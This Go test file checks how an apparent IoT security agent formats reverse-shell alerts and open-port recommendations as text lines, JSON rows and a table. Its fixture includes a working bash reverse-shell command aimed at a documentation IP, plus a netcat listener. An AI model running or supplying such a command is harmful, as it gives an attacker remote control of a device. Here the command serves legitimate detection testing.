package detect

import (
	"bytes"
	"strings"
	"testing"

	"github.com/edgesec/edgesec/event"
)

func TestFormatLineAndTable(t *testing.T) {
	h := newHarness(t, Options{})
	out := h.feed(proc("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "ContainerId", "4f1e2d3c4b5a6978", "ModuleName", "tempSensor"),
		snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc")))
	if len(out) != 2 {
		t.Fatalf("%d events", len(out))
	}
	line := FormatLine(out[0])
	for _, want := range []string{"ALERT High IoT_ReverseShell \"Reverse shells\"", "/dev/tcp/198.51.100.7/4444", "module tempSensor", "remote 198.51.100.7", "user root"} {
		if !strings.Contains(line, want) {
			t.Errorf("alert line %q lacks %q", line, want)
		}
	}
	rec := FormatLine(out[1])
	if !strings.Contains(rec, "RECOMMENDATION Medium Active IoT_OpenPorts \"Open ports on device\": TCP 0.0.0.0:8888: /usr/bin/nc (pid 812") {
		t.Errorf("recommendation line %q", rec)
	}
	if FormatLine(proc("/bin/true", "true")) != "" {
		t.Error("FormatLine of a ProcessCreate")
	}
	// The messages as the file transport writes them, read back.
	var buf bytes.Buffer
	for _, ev := range append([]event.Event{proc("/bin/true", "true")}, out...) {
		env := event.Envelope{AgentVersion: "test", AgentID: "2f1ae4a0-6c1b-4f57-9a58-0d3f1c9e7b21", Events: []event.Event{ev}}
		buf.Write(env.AppendJSON(nil))
		buf.WriteByte('\n')
	}
	rows, err := ReadRows(&buf)
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if rows[0].ID != RuleReverseShell || rows[0].Entity != "pid "+event.Itoa(out[0].Payload[0].(*event.SecurityAlertPayload).ProcessID)+" root tempSensor 198.51.100.7" {
		t.Errorf("row 0: %+v", rows[0])
	}
	var tb bytes.Buffer
	if err := WriteTable(&tb, rows, 40); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(tb.String()), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "TIME (UTC)") || !strings.Contains(lines[2], "recommendation  Medium    Active  IoT_OpenPorts") {
		t.Errorf("table:\n%s", tb.String())
	}
	if _, err := ReadRows(strings.NewReader("{not json")); err == nil {
		t.Error("bad JSON accepted")
	}
}
